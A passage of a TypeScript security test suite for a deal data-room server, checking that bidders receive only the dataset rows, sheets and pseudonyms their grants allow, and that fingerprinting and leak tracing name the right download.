import { createDeflateRaw, crc32 } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { startTestApp, type Client, type TestApp } from '../support/test-app.js';
import { buildDeal, type Deal } from '../support/world.js';
import { binary } from '../support/binary.js';
import { makePdf } from '../support/fixtures.js';
import { storedObjectKeys } from '../support/stored-objects.js';
import { CENSUS_HEADER, censusCsv, censusRow, generateCensus, type CensusPerson, CENSUS_CLASSIFICATION, CENSUS_ENTITY_VALUES } from '../support/census.js';
import { inDeliveryOrder, ORDER_GROUP_ROWS, orderKeyOf } from '../../server/datasets/fingerprint.js';
import { withCellReferences } from '../support/xlsx-cell-references.js';

/**
 * Datasets attacked (docs/http-api.md, "Datasets"; docs/quality.md, security): what a hostile bidder,
 * a careless deal team, a hostile file and a misconfigured operator would try, each test named after
 * what the user relies on.
 *
 * The world: party A (Alpha and its advisor Lex) is covered for Falcon GmbH, party B (Beta) for Falcon
 * Ltd only. The census (CSV) and the workbook (XLSX: a Staff sheet with an entity column, a Notes sheet
 * without one) are filed under GmbH and map GmbH and Ltd: B sees them only through the map.
 */
let t: TestApp;
let deal: Deal;
let census: CensusPerson[];
let buyerA: Client;
let advisorA: Client;
let buyerB: Client;
let censusId: string;
let bookId: string;
let hiddenId: string;
let censusBytes: Buffer;

const MISSING_ID = '00000000-0000-4000-8000-000000000000';
const NOTES_HEADER = ['Topic', 'Note'];
const NOTES = [
  ['Pension', 'GmbH pension deficit of 4.2m, not yet provisioned'],
  ['Litigation', 'Works council claim pending at the labour court'],
  ['Retention', 'Key staff retention bonuses promised verbally'],
];

const csvRows = (data: Buffer): string[][] => parse(data.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true });
const sortRows = (rows: string[][]) => rows.map((r) => JSON.stringify(r)).sort();
const stored = (entities: string[]) => census.filter((p) => entities.includes(p.entity)).map(censusRow);
const content = (client: Client, id: string, query = '') => client.get(`/api/documents/${id}/content${query}`).buffer(true).parse(binary);

async function workbook(sheets: Array<{ name: string; rows: string[][] }>): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  for (const sheet of sheets) {
    const ws = book.addWorksheet(sheet.name);
    for (const row of sheet.rows) ws.addRow(row);
  }
  return Buffer.from(await book.xlsx.writeBuffer());
}

/** Every sheet of a delivered workbook but the stamp, as rows of text. */
async function xlsxSheets(data: Buffer): Promise<Map<string, string[][]>> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(new Uint8Array(await withCellReferences(data)).buffer);
  const sheets = new Map<string, string[][]>();
  for (const ws of book.worksheets.slice(1)) {
    const rows: string[][] = [];
    ws.eachRow({ includeEmpty: false }, (row) => {
      const cells: string[] = [];
      for (let c = 1; c <= ws.columnCount; c++) {
        const v = row.getCell(c).value;
        cells.push(v === null || v === undefined ? '' : String(v));
      }
      rows.push(cells);
    });
    sheets.set(ws.name, rows);
  }
  return sheets;
}

type Fields = { folderId?: string; entityId?: string; classification?: string; personalData?: string; title?: string };
function upload(file: { data: Buffer; name: string }, fields: Fields = {}) {
  return deal.manager.upload(`${deal.roomPath}/documents`, file, {
    folderId: deal.folders.payroll.id,
    entityId: deal.entities.gmbh.id,
    classification: 'confidential',
    personalData: 'identified',
    ...fields,
  });
}

async function uploadDataset(file: { data: Buffer; name: string }, fields: Fields = {}): Promise<string> {
  const res = await upload(file, fields);
  if (res.status !== 201 || res.body.kind !== 'dataset') throw new Error(`upload of ${file.name}: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body.id;
}

async function classify(id: string, body: object) {
  const res = await deal.manager.put(`/api/documents/${id}/dataset`, body);
  if (res.status !== 200) throw new Error(`classification: ${res.status} ${JSON.stringify(res.body)}`);
}

async function auditEvents(filter: (e: { action: string; subjectId: string | null; details: string; decision: string }) => boolean) {
  const rows: Array<{ action: string; subjectId: string | null; details: string; decision: string; actorId: string }> = await t.db('auditEvents').select('action', 'subjectId', 'details', 'decision', 'actorId');
  return rows.filter(filter);
}

/** Counts the stored objects opened while `act` runs: the work a request did on files. */
async function objectsOpenedBy(act: () => Promise<unknown>): Promise<number> {
  const store = t.store as unknown as { get: (...args: unknown[]) => Promise<unknown> };
  const original = store.get;
  let opened = 0;
  store.get = function (this: unknown, ...args: unknown[]) {
    opened++;
    return original.apply(this, args);
  };
  try {
    await act();
  } finally {
    store.get = original;
  }
  return opened;
}

/**
 * A list of 400 people in Legal, where A's grant is pseudonymised: A gets GmbH's rows, B Ltd's, and
 * many names occur in both. Made once, by the first test that needs it.
 */
let legalListId: Promise<string> | undefined;
function legalList(): Promise<string> {
  legalListId ??= (async () => {
    const id = await uploadDataset({ data: censusCsv(census.slice(0, 400)), name: 'legal-list.csv' }, { folderId: deal.folders.legal.id, classification: 'standard' });
    await classify(id, { ...CENSUS_CLASSIFICATION, entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id } });
    return id;
  })();
  return legalListId;
}

beforeAll(async () => {
  t = await startTestApp();
  deal = await buildDeal(t);
  census = generateCensus(600, CENSUS_ENTITY_VALUES, 7);
  censusBytes = censusCsv(census);
  censusId = await uploadDataset({ data: censusBytes, name: 'census.csv' }, { title: 'Employee census' });
  await classify(censusId, { ...CENSUS_CLASSIFICATION, entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id } });

  bookId = await uploadDataset({
    data: await workbook([
      { name: 'Staff', rows: [[...CENSUS_HEADER], ...census.slice(0, 300).map(censusRow)] },
      { name: 'Notes', rows: [NOTES_HEADER, ...NOTES] },
    ]),
    name: 'workbook.xlsx',
  });
  await classify(bookId, {
    columns: CENSUS_CLASSIFICATION.columns.map((c) => ({ ...c, sheet: 'Staff' })),
    subjectColumn: { sheet: 'Staff', name: 'Employee ID' },
    entityColumn: { sheet: 'Staff', name: 'Entity' },
    entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id },
  });

  // Filed under Ltd, mapped to nothing: hidden from A.
  hiddenId = await uploadDataset({ data: censusCsv(census.filter((p) => p.entity === 'Falcon Ltd')), name: 'ltd.csv' }, { entityId: deal.entities.ltd.id });

  await deal.nda({ orgId: deal.orgs.alpha.id, entityIds: [deal.entities.gmbh.id], coversRepresentatives: true });
  await deal.nda({ orgId: deal.orgs.beta.id, entityIds: [deal.entities.ltd.id] });
  // A: identified in Payroll, pseudonymised in Legal; B: pseudonymised everywhere.
  await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.payroll.id, maxPersonalData: 'identified' });
  await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.legal.id, maxPersonalData: 'pseudonymised' });
  await deal.grant({ partyId: deal.parties.B.id, folderId: null, maxPersonalData: 'pseudonymised' });
  buyerA = await deal.login('buyerA');
  advisorA = await deal.login('advisorA');
  buyerB = await deal.login('buyerB');
}, 120_000);
afterAll(() => t?.close());

describe('rows a bidder may not have', () => {
  it("gives a party covered only through the entity map no row, name or header of a sheet without an entity column: it is answered as a sheet the file does not have", async () => {
    // Asked by name, in the grid and as CSV: the answer of a name the file has no sheet of, but for the name sent.
    const asked = async (sheet: string) => {
      const page = await buyerB.get(`/api/documents/${bookId}/rows?sheet=${sheet}`);
      const csv = await content(buyerB, bookId, `?format=csv&sheet=${sheet}`);
      return JSON.stringify([page.status, page.body, csv.status, csv.body.toString('utf8')]).replaceAll(sheet, 'SHEET');
    };
    expect(await asked('Notes')).toBe(await asked('Notez'));
    expect(await asked('Notes')).toContain('400');
    // Told of nowhere: not in the grid's list of sheets, not in the workbook.
    const grid = await buyerB.get(`/api/documents/${bookId}/rows`);
    expect(grid.body.sheets).toEqual(['Staff']);
    const xlsx = await content(buyerB, bookId, '?format=xlsx');
    expect(xlsx.status).toBe(200);
    const sheets = await xlsxSheets(xlsx.body);
    expect([...sheets.keys()]).toEqual(['Staff']);
    const text = JSON.stringify([grid.body, [...sheets.keys()], [...sheets.values()]]);
    expect(text).not.toContain('Notes');
    for (const name of NOTES_HEADER) expect(text).not.toContain(name);
    for (const [, note] of NOTES) expect(text).not.toContain(note);
    // The Staff sheet: Ltd's rows only, whatever the format.
    expect(sheets.get('Staff')!.slice(1).every((r) => r[6] === 'Falcon Ltd')).toBe(true);
    expect(sheets.get('Staff')!.length - 1).toBe(census.slice(0, 300).filter((p) => p.entity === 'Falcon Ltd').length);
    // A, covered for the entity the file is filed under, has the notes and both sheets.
    const own = await buyerA.get(`/api/documents/${bookId}/rows?sheet=Notes`);
    expect(sortRows(own.body.rows)).toEqual(sortRows(NOTES));
    expect(own.body.sheets).toEqual(['Staff', 'Notes']);
  });

  it('delivers one bidder the same rows and pseudonyms as CSV, as XLSX and in the grid', async () => {
    const csv = csvRows((await content(buyerB, bookId, '?format=csv&sheet=Staff')).body);
    const xlsx = (await xlsxSheets((await content(buyerB, bookId, '?format=xlsx')).body)).get('Staff')!;
    const grid = await buyerB.get(`/api/documents/${bookId}/rows?sheet=Staff&limit=1000`);
    expect(csv[0]).toEqual([...CENSUS_HEADER]);
    expect(sortRows(xlsx.slice(1))).toEqual(sortRows(csv.slice(1)));
    expect(sortRows(grid.body.rows)).toEqual(sortRows(csv.slice(1)));
    expect(csv.slice(1).every((r) => /^P-[0-9A-F]{16}$/.test(r[0]!) && r[6] === 'Falcon Ltd')).toBe(true);
  });

  it('counts in /rows only the rows of the caller, and pages past the end into nothing', async () => {
    const ltd = stored(['Falcon Ltd']).length;
    const first = await buyerB.get(`/api/documents/${censusId}/rows?limit=1000`);
    expect(first.body.total).toBe(ltd);
    expect(first.body.rows).toHaveLength(ltd);
    const far = await buyerB.get(`/api/documents/${censusId}/rows?offset=100000000&limit=1000`);
    expect(far.status).toBe(200);
    expect(far.body).toMatchObject({ rows: [], total: ltd });
    const gmbh = await buyerA.get(`/api/documents/${censusId}/rows?limit=1`);
    expect(gmbh.body.total).toBe(stored(['Falcon GmbH']).length);
  });

  it.each([
    ['offset', 'offset=-1'],
    ['offset', 'offset=NaN'],
    ['offset', 'offset=1.5'],
    ['offset', 'offset=100000001'],
    ['offset', 'offset=Infinity'],
    ['limit', 'limit=0'],
    ['limit', 'limit=1001'],
    ['limit', 'limit=-5'],
    ['limit', 'limit=abc'],
    ['limit', 'limit='],
    ['sheet', 'sheet='],
    ['sheet', `sheet=${'x'.repeat(201)}`],
    ['extra', 'extra=1'],
  ])('refuses /rows with a bad %s (%s), naming the field, before anything is read', async (field, query) => {
    let res: { status: number; body: any } | undefined;
    const opened = await objectsOpenedBy(async () => {
      res = await buyerB.get(`/api/documents/${censusId}/rows?${query}`);
    });
    expect(res!.status).toBe(400);
    expect(res!.body.error.code).toBe('invalid_request');
    expect(JSON.stringify(res!.body.error.details ?? {})).toContain(field === 'extra' ? 'extra' : field);
    expect(opened).toBe(0);
  });

  it('neither resumes nor ranges a dataset delivery into the stored file', async () => {
    const first = await content(buyerB, censusId);
    const downloadId = first.headers['x-download-id'];
    const resumed = await content(buyerB, censusId, `?download=${encodeURIComponent(downloadId)}`);
    expect(resumed.status).toBe(400);
    expect(resumed.body.toString('utf8')).not.toContain('Falcon GmbH');
    for (const range of ['bytes=0-99', 'bytes=-500', `bytes=0-${censusBytes.length - 1}`, 'bytes=100-']) {
      const res = await buyerB.get(`/api/documents/${censusId}/content`).set('Range', range).buffer(true).parse(binary);
      expect(res.status).toBe(200);
      expect(res.headers['content-range']).toBeUndefined();
      expect(res.headers['accept-ranges']).not.toBe('bytes');
      const rows = csvRows(res.body);
      expect(rows[0]).toEqual([...CENSUS_HEADER]);
      expect(rows.slice(1).every((r) => r[6] === 'Falcon Ltd' && r[0]!.startsWith('P-'))).toBe(true);
      expect(res.body.includes(censusBytes.subarray(0, 200))).toBe(false);
    }
  });

  it('never hands a bidder the stored file, by GET or HEAD, even with a grant at level original', async () => {
    const grant = await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.payroll.id, level: 'original', maxPersonalData: 'identified' });
    try {
      for (const client of [buyerA, advisorA, buyerB]) {
        const res = await client.get(`/api/documents/${censusId}/original`).buffer(true).parse(binary);
        expect(res.status).toBe(403);
        expect(res.body.includes(Buffer.from(census[0]!.email))).toBe(false);
        const head = await client.agent.head(`/api/documents/${censusId}/original`);
        expect(head.status).toBe(403);
        expect(head.headers['content-length']).not.toBe(String(censusBytes.length));
      }
      // A HEAD of the content is a delivery like any other: never the stored file's length.
      const head = await buyerB.agent.head(`/api/documents/${censusId}/content`);
      expect(head.headers['content-length']).not.toBe(String(censusBytes.length));
    } finally {
      await deal.manager.delete(`${deal.roomPath}/grants/${grant.id}`);
    }
  });

  it("tells a bidder nothing of the stored file in the document list or the document: not its size, not its hash", async () => {
    const list = await buyerB.get(`${deal.roomPath}/documents?limit=100`);
    const item = list.body.items.find((d: { id: string }) => d.id === censusId);
    expect(item).toBeDefined();
    const one = await buyerB.get(`/api/documents/${censusId}`);
    for (const doc of [item, one.body]) {
      expect(doc.kind).toBe('dataset');
      // The stored file holds every entity's rows: its size tells B how many people GmbH and BV employ.
      expect(doc.size ?? null).toBeNull();
      expect(JSON.stringify(doc)).not.toMatch(/[0-9a-f]{64}/);
    }
    // The deal team keeps both.
    const staff = await deal.manager.get(`/api/documents/${censusId}`);
    expect(staff.body.size).toBe(censusBytes.length);
  });

  it("keeps the description to the deal team: a bidder learns no column name, row count or entity map from GET …/dataset", async () => {
    for (const client of [buyerA, buyerB]) {
      const res = await client.get(`/api/documents/${bookId}/dataset`);
      expect(res.status).toBe(403);
      const text = JSON.stringify(res.body);
      for (const secret of ['Employee ID', 'Salary', 'Falcon BV', 'Notes', deal.entities.gmbh.id, '300']) expect(text).not.toContain(secret);
      expect((await client.put(`/api/documents/${bookId}/dataset`, { columns: [] })).status).toBe(403);
    }
  });

  it('answers a bad sheet or format with a message that repeats only what the bidder sent', async () => {
    const res = await buyerB.get(`/api/documents/${bookId}/rows?sheet=Payroll%202024`);
    expect(res.status).toBe(400);
    expect(JSON.stringify(res.body)).not.toMatch(/Staff|Notes|Employee/);
    const csv = await content(buyerB, bookId, '?format=csv&sheet=Payroll%202024');
    expect(csv.status).toBe(400);
    expect(csv.body.toString('utf8')).not.toMatch(/Staff|Notes|Employee/);
    const format = await content(buyerB, bookId, '?format=ods');
    expect(format.status).toBe(400);
  });
});

describe('existence and counting oracles', () => {
  const routes: Array<[string, (c: Client, id: string) => any]> = [
    ['GET …/dataset', (c, id) => c.get(`/api/documents/${id}/dataset`)],
    ['PUT …/dataset', (c, id) => c.put(`/api/documents/${id}/dataset`, { columns: [] })],
    ['GET …/rows', (c, id) => c.get(`/api/documents/${id}/rows`)],
    ['GET …/rows?sheet&offset', (c, id) => c.get(`/api/documents/${id}/rows?sheet=Notes&offset=5&limit=10`)],
    ['GET …/content', (c, id) => c.get(`/api/documents/${id}/content`)],
    ['GET …/content?format=xlsx', (c, id) => c.get(`/api/documents/${id}/content?format=xlsx`)],
    ['GET …/content?format=csv&sheet', (c, id) => c.get(`/api/documents/${id}/content?format=csv&sheet=Notes`)],
    ['GET …/content?disposition=inline', (c, id) => c.get(`/api/documents/${id}/content?disposition=inline`)],
    ['HEAD …/content', (c, id) => c.agent.head(`/api/documents/${id}/content`)],
    ['GET …/original', (c, id) => c.get(`/api/documents/${id}/original`)],
    ['HEAD …/original', (c, id) => c.agent.head(`/api/documents/${id}/original`)],
    ['GET the document', (c, id) => c.get(`/api/documents/${id}`)],
  ];
  const VARYING_HEADERS = new Set(['date', 'x-request-id', 'ratelimit', 'ratelimit-policy', 'ratelimit-remaining', 'ratelimit-reset', 'etag', 'set-cookie']);
  const comparable = (res: { status: number; headers: Record<string, string>; body: unknown; text?: string }) => ({
    status: res.status,
    body: res.text ?? res.body,
    headers: Object.fromEntries(Object.entries(res.headers).filter(([k]) => !VARYING_HEADERS.has(k))),
  });

  it.each(routes)('answers %s of a hidden dataset exactly as a missing id, without opening a file', async (_label, call) => {
    let hidden: any;
    let missing: any;
    const openedHidden = await objectsOpenedBy(async () => {
      hidden = await call(buyerA, hiddenId);
    });
    const openedMissing = await objectsOpenedBy(async () => {
      missing = await call(buyerA, MISSING_ID);
    });
    expect(hidden.status).toBe(404);
    expect(comparable(hidden)).toEqual(comparable(missing));
    expect([openedHidden, openedMissing]).toEqual([0, 0]);
  });

  it("hides a dataset whose map names only entities the party is not covered for, wherever it is filed", async () => {
    const id = await uploadDataset({ data: censusCsv(census.slice(0, 50)), name: 'mapped-ltd.csv' }, { entityId: deal.entities.ltd.id });
    await classify(id, { columns: [], entityColumn: { name: 'Entity' }, entityMap: { 'Falcon Ltd': deal.entities.ltd.id } });
    const hidden = await buyerA.get(`/api/documents/${id}/rows`);
    const missing = await buyerA.get(`/api/documents/${MISSING_ID}/rows`);
    expect([hidden.status, hidden.body]).toEqual([missing.status, missing.body]);
    const list = await buyerA.get(`${deal.roomPath}/documents?limit=100`);
    expect(list.body.items.map((d: { id: string }) => d.id)).not.toContain(id);
  });
});

describe('pseudonyms', () => {
  it('never gives two parties the same pseudonym for a value, and gives one party always the same', async () => {
    const people = census.slice(0, 400);
    const id = await legalList();
    const nameColumn = (rows: string[][]) => new Set(rows.map((r) => r[1]!));
    const a = csvRows((await content(buyerA, id)).body).slice(1);
    const a2 = csvRows((await content(advisorA, id)).body).slice(1);
    const b = csvRows((await content(buyerB, id)).body).slice(1);
    const namesA = nameColumn(a);
    const namesB = nameColumn(b);
    expect(nameColumn(a2)).toEqual(namesA);
    expect([...namesA, ...namesB].every((n) => /^P-[0-9A-F]{16}$/.test(n))).toBe(true);
    const gmbhNames = new Set(people.filter((p) => p.entity === 'Falcon GmbH').map((p) => p.name));
    const shared = people.filter((p) => p.entity === 'Falcon Ltd' && gmbhNames.has(p.name));
    expect(shared.length).toBeGreaterThan(10);
    // The same names, pseudonymised for each party: no pseudonym in common.
    expect([...namesA].filter((p) => namesB.has(p))).toEqual([]);
    // Nothing as stored in a direct column.
    expect(a.flat().join('\n')).not.toContain(people.find((p) => p.entity === 'Falcon GmbH')!.email);
  });

  it('refuses a classification that leaves as stored a column repeating a direct column, which would undo every pseudonym of the party', async () => {
    const header = ['Email', 'Login', 'Department'];
    const rows = census.slice(0, 40).map((p, i) => [p.email, i % 2 ? ` ${p.email.toUpperCase()} ` : p.email, p.department]);
    const id = await uploadDataset({ data: Buffer.from([header, ...rows].map((r) => r.join(',')).join('\r\n')), name: 'logins.csv' }, { folderId: deal.folders.legal.id, entityId: deal.entities.ltd.id, classification: 'standard' });
    const res = await deal.manager.put(`/api/documents/${id}/dataset`, { columns: [{ name: 'Email', role: 'direct' }] });
    expect(res.status).toBe(400);
    // Column names and a count, never a value.
    expect(res.body.error.details.columns).toMatch(/Login repeats the direct column Email in 40 rows/);
    expect(JSON.stringify(res.body)).not.toMatch(/@falcon\.example/i);
    // Naming it direct too is the fix; the bidder then gets pseudonyms in both.
    await classify(id, { columns: [{ name: 'Email', role: 'direct' }, { name: 'Login', role: 'direct' }] });
    const delivered = csvRows((await content(buyerB, id)).body).slice(1);
    expect(delivered.flat().join('\n')).not.toMatch(/@falcon\.example/i);
  });

  it('leaves a blank cell of a direct column blank, spaces or not: no pseudonym for nobody', async () => {
    const header = ['Name', 'Department'];
    const rows = [['Anna Müller', 'HR'], ['', 'IT'], ['   ', 'Sales'], ['\t', 'Legal'], ['Ben Smith', 'Operations']];
    const id = await uploadDataset({ data: Buffer.from([header, ...rows].map((r) => r.join(',')).join('\r\n')), name: 'blanks.csv' }, { folderId: deal.folders.legal.id, entityId: deal.entities.ltd.id, classification: 'standard' });
    await classify(id, { columns: [{ name: 'Name', role: 'direct' }] });
    const page = await buyerB.get(`/api/documents/${id}/rows`);
    const byDepartment = new Map(page.body.rows.map((r: string[]) => [r[1], r[0]]));
    expect(byDepartment.get('HR')).toMatch(/^P-/);
    expect(byDepartment.get('IT')).toBe('');
    expect(byDepartment.get('Sales')).toBe('');
    expect(byDepartment.get('Legal')).toBe('');
  });

  it("keeps a party's pseudonyms for unchanged columns when the classification changes between two downloads", async () => {
    const before = csvRows((await content(buyerB, censusId)).body).slice(1);
    await classify(censusId, {
      ...CENSUS_CLASSIFICATION,
      columns: CENSUS_CLASSIFICATION.columns.filter((c) => c.name !== 'Salary'),
      entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id },
    });
    try {
      const after = csvRows((await content(buyerB, censusId)).body).slice(1);
      const ids = (rows: string[][]) => rows.map((r) => r[0]).sort();
      expect(ids(after)).toEqual(ids(before));
      // Salary is now as stored: the rows keep their pseudonyms, the salary column changes form.
      expect(after.every((r) => /^\d+$/.test(r[5]!))).toBe(true);
    } finally {
      await classify(censusId, { ...CENSUS_CLASSIFICATION, entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id } });
    }
  });
});

describe('fingerprint', () => {
  async function storedPlaces(rows: string[][]) {
    const index = new Map(stored(['Falcon GmbH', 'Falcon Ltd', 'Falcon BV']).map((r, i) => [r[0]!, i]));
    return rows.map((r) => ({ sheet: 0, index: index.get(r[0]!)! }));
  }

  it('gives two colluding members of one party two orders, each naming its own download and not the other', async () => {
    const one = await content(buyerA, censusId);
    const two = await content(advisorA, censusId);
    const rowsOne = csvRows(one.body).slice(1);
    const rowsTwo = csvRows(two.body).slice(1);
    expect(sortRows(rowsOne)).toEqual(sortRows(rowsTwo));
    const secret = Buffer.from((await t.db('roomDatasetKeys').where({ roomId: deal.room.id }).first('secret')).secret, 'base64');
    const keyOne = orderKeyOf(secret, one.headers['x-download-id']);
    const keyTwo = orderKeyOf(secret, two.headers['x-download-id']);
    const placesOne = await storedPlaces(rowsOne);
    const placesTwo = await storedPlaces(rowsTwo);
    // Downloads order runs of rows (fingerprint.ts ORDER_GROUP_ROWS), and say so in their records.
    expect(inDeliveryOrder(keyOne, placesOne, ORDER_GROUP_ROWS)).toBe(true);
    expect(inDeliveryOrder(keyTwo, placesOne, ORDER_GROUP_ROWS)).toBe(false);
    expect(inDeliveryOrder(keyTwo, placesTwo, ORDER_GROUP_ROWS)).toBe(true);
    // A copy mixing both (the first half of one, the rest as the other has it) names neither.
    const half = placesOne.slice(0, placesOne.length / 2);
    const taken = new Set(half.map((p) => p.index));
    const mixed = [...half, ...placesTwo.filter((p) => !taken.has(p.index))];
    expect([inDeliveryOrder(keyOne, mixed, ORDER_GROUP_ROWS), inDeliveryOrder(keyTwo, mixed, ORDER_GROUP_ROWS)]).toEqual([false, false]);
    // Neither download is in the stored order, nor can the two be combined into it: they agree on no pair more often than chance.
    const storedOrder = [...placesOne].sort((x, y) => x.index - y.index);
    expect(placesOne).not.toEqual(storedOrder);
  });
});

describe('tracing what colluders leak', () => {
  const asCsv = (rows: string[][]) => Buffer.from(`${rows.map((r) => r.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n')}\r\n`);
  const trace = (data: Buffer) => deal.counsel.upload(`${deal.roomPath}/trace`, { data, name: 'leak.csv' });
  /** The first half of one copy, then the rest of the rows in the order the other copy has them. */
  const mixed = (one: string[][], two: string[][]) => {
    const half = one.slice(0, Math.floor(one.length / 2));
    const taken = new Set(half.map((r) => JSON.stringify(r)));
    return [...half, ...two.filter((r) => !taken.has(JSON.stringify(r)))];
  };

  it('names the download a member leaked, never the other member\'s, and names no download from a mix of both', async () => {
    const one = await content(buyerA, censusId);
    const two = await content(advisorA, censusId);
    const [header, ...rowsOne] = csvRows(one.body);
    const rowsTwo = csvRows(two.body).slice(1);
    const leaked = await trace(asCsv([header!, ...rowsOne]));
    expect(leaked.status).toBe(200);
    expect(leaked.body.downloadId).toBe(one.headers['x-download-id']);
    const fromMix = await trace(asCsv([header!, ...mixed(rowsOne, rowsTwo)]));
    // Identified copies carry no pseudonym: a mix matches no delivery's order, and no one is named rather than the wrong one.
    if (fromMix.status === 200) expect([one.headers['x-download-id'], two.headers['x-download-id']]).toContain(fromMix.body.downloadId);
    else expect(fromMix.body.error.code).toBe('not_traced');
  }, 60_000);

  it('names the party of a pseudonymised copy that two of its members mixed', async () => {
    const id = await legalList();
    const one = csvRows((await content(buyerA, id)).body);
    const two = csvRows((await content(advisorA, id)).body).slice(1);
    const res = await trace(asCsv([one[0]!, ...mixed(one.slice(1), two)]));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ match: 'party', party: { id: deal.parties.A.id } });
  }, 60_000);

  it("names the viewer of a grid scraped page by page, whatever the pages' size, and never another member's", async () => {
    /** The grid of one member, as a scraper pages through it: every row, pages of `size`. */
    const scrape = async (client: Client, size: number) => {
      const first = await client.get(`/api/documents/${censusId}/rows?limit=${size}`);
      const rows: string[][] = [...first.body.rows];
      while (rows.length < first.body.total) rows.push(...(await client.get(`/api/documents/${censusId}/rows?offset=${rows.length}&limit=${size}`)).body.rows);
      return { columns: first.body.columns as string[], rows };
    };
    const byA = await scrape(buyerA, 97);
    // The same rows in the same order on every request, whatever the paging: pages fit together.
    expect((await scrape(buyerA, 1000)).rows).toEqual(byA.rows);
    expect(sortRows(byA.rows)).toEqual(sortRows(stored(['Falcon GmbH'])));
    expect(byA.rows).not.toEqual(stored(['Falcon GmbH']));
    const byAdvisor = await scrape(advisorA, 250);
    expect(sortRows(byAdvisor.rows)).toEqual(sortRows(byA.rows));
    expect(byAdvisor.rows).not.toEqual(byA.rows);

    // 300 rows from the middle of each grid: the viewer's page records, never the other member's.
    for (const [copy, viewer] of [[byA, deal.users.buyerA.id], [byAdvisor, deal.users.advisorA.id]] as const) {
      const traced = await trace(asCsv([copy.columns, ...copy.rows.slice(100, 400)]));
      expect(traced.status).toBe(200);
      expect(traced.body).toMatchObject({ match: 'fingerprint', user: { id: viewer } });
    }
    // Two members' grids mixed: no order is theirs, and identified rows name no party: no one rather than the wrong one.
    const fromMix = await trace(asCsv([byA.columns, ...mixed(byA.rows, byAdvisor.rows)]));
    expect([fromMix.status, fromMix.body.error?.code]).toEqual([404, 'not_traced']);
  }, 120_000);
});

describe("the deal team's mistakes", () => {
  it("refuses an entity map naming another room's entity or an entity the room does not target", async () => {
    const otherRoom = await deal.manager.post('/api/rooms', { name: 'Sale of Eagle', entityIds: [deal.entities.outside.id] });
    expect(otherRoom.status).toBe(201);
    for (const entityId of [deal.entities.outside.id, MISSING_ID]) {
      const res = await deal.manager.put(`/api/documents/${censusId}/dataset`, { ...CENSUS_CLASSIFICATION, entityMap: { 'Falcon BV': entityId } });
      expect(res.status).toBe(400);
      expect(res.body.error.details).toHaveProperty(['entityMap.Falcon BV']);
    }
    expect((await deal.manager.get(`/api/documents/${censusId}/dataset`)).body.entityMap).not.toHaveProperty(['Falcon BV']);
  });

  it('refuses a subject column that is not direct, and columns of another sheet', async () => {
    const notDirect = await deal.manager.put(`/api/documents/${bookId}/dataset`, { columns: [{ sheet: 'Staff', name: 'Name', role: 'quasi' }], subjectColumn: { sheet: 'Staff', name: 'Name' } });
    expect(notDirect.status).toBe(400);
    expect(notDirect.body.error.details).toHaveProperty('subjectColumn');
    const otherSheet = await deal.manager.put(`/api/documents/${bookId}/dataset`, {
      columns: [{ sheet: 'Notes', name: 'Email', role: 'direct' }],
      entityColumn: { sheet: 'Notes', name: 'Entity' },
    });
    expect(otherSheet.status).toBe(400);
    expect(Object.keys(otherSheet.body.error.details).sort()).toEqual(['columns.0.name', 'entityColumn']);
    // Nothing changed.
    expect((await deal.manager.get(`/api/documents/${bookId}/dataset`)).body.entityColumn).toEqual({ sheet: 'Staff', name: 'Entity' });
  });

  it('delivers each download under one classification, while the deal team changes it under way', async () => {
    const id = await uploadDataset({ data: censusCsv(census), name: 'racing.csv' });
    const withNames = { ...CENSUS_CLASSIFICATION, entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id } };
    const withoutNames = { ...withNames, columns: withNames.columns.filter((c) => c.name !== 'Name') };
    await classify(id, withNames);
    const downloads = Array.from({ length: 6 }, () => content(buyerB, id));
    const puts = Array.from({ length: 6 }, (_, i) => deal.manager.put(`/api/documents/${id}/dataset`, i % 2 ? withNames : withoutNames));
    const results = await Promise.all(downloads);
    await Promise.all(puts);
    for (const res of results) {
      expect(res.status).toBe(200);
      const rows = csvRows(res.body).slice(1);
      const pseudonymised = rows.filter((r) => /^P-/.test(r[1]!)).length;
      // Names either all pseudonymised or all as stored: never a mix.
      expect([0, rows.length]).toContain(pseudonymised);
      expect(rows.every((r) => /^P-/.test(r[0]!) && /^P-/.test(r[2]!))).toBe(true);
    }
  }, 60_000);

  it('refuses a PDF as a new version of a dataset, leaving nothing behind', async () => {
    const objectsBefore = storedObjectKeys(t).length;
    const versionsBefore = await t.db('documentVersions').where({ documentId: censusId }).count({ n: '*' }).first();
    const res = await deal.manager.upload(`/api/documents/${censusId}/versions`, { data: await makePdf('Census as a PDF'), name: 'census.pdf' });
    expect(res.status).toBe(400);
    expect(res.body.error.details).toHaveProperty('file');
    expect(storedObjectKeys(t).length).toBe(objectsBefore);
    expect(await t.db('documentVersions').where({ documentId: censusId }).count({ n: '*' }).first()).toEqual(versionsBefore);
    expect((await deal.manager.get(`/api/documents/${censusId}`)).body.kind).toBe('dataset');
  });

  it('never delivers as stored, to a bidder whose grant allows less, the personal data of a dataset not yet classified', async () => {
    // Declared identified at upload, no column classified yet: bidders under pseudonymised or no-personal-data grants get nothing yet.
    const id = await uploadDataset({ data: censusCsv(census.slice(0, 100)), name: 'fresh.csv' }, { folderId: deal.folders.legal.id, entityId: deal.entities.ltd.id });
    const res = await content(buyerB, id);
    expect(res.status).toBe(403);
    expect(res.body.toString('utf8')).not.toContain(census.find((p) => p.entity === 'Falcon Ltd')!.email);
